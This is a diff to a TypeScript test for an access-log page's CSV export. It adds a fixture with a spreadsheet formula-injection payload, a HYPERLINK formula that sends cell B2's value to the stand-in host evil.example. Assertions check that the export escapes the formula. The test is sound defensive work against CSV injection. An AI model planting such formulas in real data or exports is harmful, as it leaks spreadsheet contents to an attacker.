@@ -27,6 +27,8 @@ const entry = (id: number, overrides: Partial<AccessLogEntry>): AccessLogEntry =
   ...overrides,
 });
 
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
+
 const ENTRIES = [
   entry(1, {
     actor: 'anonymous',
@@ -34,7 +36,8 @@ const ENTRIES = [
     resource: 'api',
     resourceId: null,
     outcome: 'denied',
-    details: { status: 401, reason: 'Invalid tokens.' },
+    // What a refused token claimed: anyone can write a spreadsheet formula there.
+    details: { status: 401, reason: 'Invalid tokens.', unverifiedUser: FORMULA },
     caseNumber: null,
     summary: 'tried to read /chrome',
   }),
@@ -188,5 +191,8 @@ describe('the access log page', () => {
     expect(csv.name).toMatch(/access-log/);
     expect(csv.text).toContain('Invalid tokens.');
     expect(csv.text.split('\n')).toHaveLength(ENTRIES.length + 1);
+    // The claimed name is exported as text, never as a cell a spreadsheet would run.
+    expect(csv.text).toContain(`'=HYPERLINK`);
+    expect(csv.text).not.toMatch(/(^|,)"?=/m);
   });
 });
